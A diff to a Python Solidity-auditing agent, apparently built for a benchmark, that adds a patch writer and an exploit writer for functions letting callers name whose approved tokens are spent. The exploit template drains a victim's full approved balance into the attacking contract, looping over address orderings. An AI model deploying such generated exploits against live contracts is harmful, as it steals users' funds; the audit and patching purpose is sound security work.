@@ -4,7 +4,8 @@ There is no LLM in here and nothing is invented.
 The agent carries a library of building blocks that it has written before, which is the larger part of this file.
 It recognises the names that a task asks for, copies those blocks and all they use out of its own source, and runs
 the task's examples on them. What contradicts an example, or is not in the library, it leaves out.
-A working directory with Solidity files in it is audited instead.
+A working directory with Solidity files in it is audited instead, and what the audit finds it can prove: where a task
+asks for that it writes the exploit or the patch.
 """
 
 import argparse
@@ -885,6 +886,7 @@ class Knowledge:
 
 
 PULLS = {"transferFrom", "safeTransferFrom"}
+PAYER, PAYEE, AMOUNT, TOKEN = range(4)  # what a transfer is told: its three arguments, and whom it is asked of
 ENCODERS = {"encodeWithSelector", "encodeCall", "encodeWithSignature"}
 PULL_SELECTOR = "0x23b872dd"
 GUARD_NAME = re.compile(r"(?:only|auth|restrict|requires?[A-Z_]|initializer|reinitializer)", re.IGNORECASE)
@@ -894,8 +896,9 @@ VALUE_TYPE = re.compile(r"(?:u?int\d*|bool|bytes\d*|string|mapping)\b")
 class SpendAudit:
     """Looks for functions that let their caller name whose approved tokens are spent."""
 
-    def __init__(self, view):
+    def __init__(self, view, place=PAYER):
         self.view = view
+        self.place = place
         self.pulls = []
         self.seen = set()
 
@@ -909,6 +912,12 @@ class SpendAudit:
             if self.pulls:
                 found.append((entry, self.pulls))
         return found
+
+    def reaches(self, entry, name):
+        """Whether what a caller gives as this parameter gets to this place of a transfer."""
+        self.pulls, self.seen = [], set()
+        self.enter(entry, Knowledge({name}), 0)
+        return bool(self.pulls)
 
     def enter(self, routine, known, depth):
         """Walk through a routine, its modifiers first."""
@@ -1016,9 +1025,9 @@ class SpendAudit:
         if known.allowed:
             return
         for call in calls_in(tokens):
-            payer = self.payer(call)
-            if payer is not None:
-                if self.is_chosen(payer, known):
+            told = self.transfer(call)
+            if told:
+                if self.place < len(told) and self.is_chosen(told[self.place], known):
                     self.pulls.append((routine, call.line))
                 continue
             hit = self.view.called(call, routine)
@@ -1032,17 +1041,17 @@ class SpendAudit:
         callers = {name for name, arg in zip(names, args, strict=False) if name and self.is_caller(arg, known)}
         self.enter(routine, Knowledge(chosen, callers), depth + 1)
 
-    def payer(self, call):
-        """Return the argument that says whose tokens a call moves, or nothing for other calls."""
+    def transfer(self, call):
+        """Return payer, payee, amount and token of a transfer as far as the call says them; nothing for others."""
         words = texts(call.receiver)
         if call.name in PULLS and words and words != ["super"] and len(call.args) >= 3:
             library = len(words) == 1 and len(call.args) == 4 and words[0][:1].isupper()
-            return call.args[1 if library else 0]
+            return [*call.args[1:], call.args[0]] if library else [*call.args[:3], call.receiver]
         if call.name in ENCODERS and len(call.args) > 1 and self.encodes_pull(call.args[0]):
             first = call.args[1]
             bundled = call.name == "encodeCall" and first[0].text == "("
-            return (split_at(first[1:-1], ",") or [first])[0] if bundled else first
-        return None
+            return split_at(first[1:-1], ",") or [first] if bundled else call.args[1:4]
+        return []
 
     @staticmethod
     def encodes_pull(tokens):
@@ -1378,14 +1387,172 @@ def report_share(valuation, debt, grows, paid):
     }
 
 
+# -- audits: proving it ---------------------------------------------------------------------------------------------
+
+EXPLOIT = """\
+// SPDX-License-Identifier: MIT
+{pragma}
+
+interface Token {{
+    function balanceOf(address account) external view returns (uint256);
+}}
+
+interface Faulty {{
+    function {called}({kinds}) external;
+}}
+
+/// Spends what others have approved to {contract}: {called} lets its caller name who pays.
+contract Exploit {{
+{entries}
+    function spend(address faulty, address token, address payer) external {{
+        uint256 amount = Token(token).balanceOf(payer);
+        require(amount > 0, "nothing to take");
+        Faulty(faulty).{called}({arguments});
+    }}
+}}
+"""
+ENTRY = """\
+    function {name}({parameters}) external {{
+        address[{count}] memory given = [{given}];
+        for (uint256 i = 0; i < {count}; i++)
+            for (uint256 j = 0; j < {count}; j++)
+                for (uint256 k = 0; k < {count}; k++)
+                    if (i != j && j != k && k != i) try this.spend(given[i], given[j], given[k]) {{}} catch {{}}
+    }}
+"""
+SIMPLE_TYPE = re.compile(r"(?:u?int\d*|bool|bytes\d+|address(?: payable)?)\Z")
+
+
+def write_exploit(task, folder):
+    """Return an exploit of the first entry that spends from an account its caller names, "" where there is none.
+
+    Which of the addresses it is given is the contract, the token and the payer, it finds out on the chain.
+    """
+    project = Project(folder)
+    entries = [entry_function(*declared, project) for declared in re.findall(r"`(\w+)\(([^`]*)\)`", task)]
+    for view, entry, roles in spends(project) if entries and all(entries) else ():
+        kinds = [plain_type(kind, project) for kind, _ in entry.params]
+        if PAYEE in roles.values() and all(kinds):
+            pragma = re.search(r"pragma solidity[^;]*;", (folder / entry.file).read_text(encoding="utf-8"))
+            arguments = [
+                argument_for(roles.get(name), kind) for (_, name), kind in zip(entry.params, kinds, strict=True)
+            ]
+            return EXPLOIT.format(
+                pragma=pragma[0] if pragma else "pragma solidity *;",
+                called=entry.name,
+                contract=view.contract.name,
+                kinds=", ".join(kinds),
+                arguments=", ".join(arguments),
+                entries="\n".join(entries),
+            )
+    return ""
+
+
+def spends(project):
+    """Yield (view, entry, roles) of every unprotected spend; a parameter's role is where in a transfer it ends."""
+    for contract in project.leaves():
+        view = View(project, contract)
+        for entry, _ in SpendAudit(view).findings():
+            places = [(name, place) for _, name in entry.params if name for place in (TOKEN, AMOUNT, PAYEE, PAYER)]
+            yield view, entry, {name: place for name, place in places if SpendAudit(view, place).reaches(entry, name)}
+
+
+def entry_function(name, parameters, project):
+    """Return an entry function as a task declares it, "" where it takes what is no address or number."""
+    declared = [read_param(part) for part in split_at(solidity_tokens(parameters), ",")]
+    kinds = [plain_type(kind, project) for kind, _ in declared]
+    given = [name for kind, (_, name) in zip(kinds, declared, strict=True) if kind == "address"]
+    if not all(kinds) or len(given) < 3:
+        return ""
+    parameters = ", ".join(f"{kind} {name}" for kind, (_, name) in zip(kinds, declared, strict=True))
+    return ENTRY.format(name=name, parameters=parameters, count=len(given), given=", ".join(given))
+
+
+def plain_type(kind, project):
+    """Return how a type is called from outside, "" for arrays, structs and what else has no such simple name."""
+    if kind in project.contracts:
+        return "address"
+    return kind.replace(" payable", "") if SIMPLE_TYPE.match(kind) else ""
+
+
+def argument_for(role, kind):
+    """Return what the exploit gives for a parameter."""
+    known = {TOKEN: "token", PAYER: "payer", PAYEE: "address(this)", AMOUNT: "amount"}
+    other = {"address": "address(this)", "bool": "true"}
+    return known.get(role) or other.get(kind) or (f"{kind}(0)" if kind.startswith("bytes") else "0")
+
+
+def write_patch(folder):
+    """Return a patch of all that the audit finds and can be mended where it stands: whole files by path, as JSON."""
+    project, sources = Project(folder), {}
+
+    def source(file):
+        return sources.get(file) or (folder / file).read_text(encoding="utf-8")
+
+    for view, entry, roles in spends(project):
+        payers = [name for name, place in roles.items() if place == PAYER]
+        checks = "".join(f'\n        require({check_of(name, entry, view)}, "not the payer");' for name in payers)
+        sources[entry.file] = with_check(source(entry.file), entry, checks)
+    for contract in project.leaves():
+        for valuation, debt, _, _ in ShareAudit(View(project, contract)).findings():
+            sources[valuation.file] = without_debt(source(valuation.file), valuation, debt)
+    return json.dumps(sources, indent=2) if sources else ""
+
+
+def check_of(payer, entry, view):
+    """Return the condition under which a caller may name this payer.
+
+    Where the contract calls the function itself it has its own rules by then; only calls from outside are held to it.
+    """
+    internal = any(
+        not call.receiver and call.name == entry.name for r in view.routines for call in calls_in(r.tokens)
+    )
+    own = f"msg.sender == {payer}"
+    return f"msg.sig != this.{entry.name}.selector || {own}" if internal else own
+
+
+def with_check(source, entry, checks):
+    """Return a source with statements at the beginning of a function."""
+    start, end = body_of(source, entry)
+    already = source[start:end].startswith(checks)
+    return source if already else source[:start] + checks + source[start:]
+
+
+def without_debt(source, valuation, debt):
+    """Return a source in which what a function returns is less by a debt."""
+    start, end = body_of(source, valuation)
+    body = re.sub(r"\breturn\s+([^;]+);", rf"return (\1) - {debt};", source[start:end])
+    return source[:start] + body + source[end:]
+
+
+def body_of(source, routine):
+    """Return where in a source the body of a routine starts and ends, without its braces."""
+    depth, started, opened = 0, False, 0
+    for match in SOLIDITY_TOKEN.finditer(source):
+        if match.lastgroup == "skip":
+            continue
+        text, line = match.group(), source.count("\n", 0, match.start()) + 1
+        started = started or (text == routine.kind and line == routine.line)
+        depth += started * ((text == "{") - (text == "}"))
+        if started and text == "{" and depth == 1:
+            opened = match.end()
+        if opened and depth == 0:
+            return opened, match.start()
+    return len(source), len(source)
+
+
 # -- either --------------------------------------------------------------------------------------------------------
 
 
 def answer(task, folder):
-    """Return what to print: a report where there is Solidity to audit, else Python source."""
-    if any(folder.rglob("*.sol")):
-        return json.dumps({"vulnerabilities": audit(folder)}, indent=2)
-    return write_code(task)
+    """Return what to print: a proof or a report where there is Solidity, else Python source."""
+    if not any(folder.rglob("*.sol")):
+        return write_code(task)
+    if "contract named Exploit" in task:
+        return write_exploit(task, folder)
+    if "Print a unified diff" in task:
+        return write_patch(folder)
+    return json.dumps({"vulnerabilities": audit(folder)}, indent=2)
 
 
 def main():
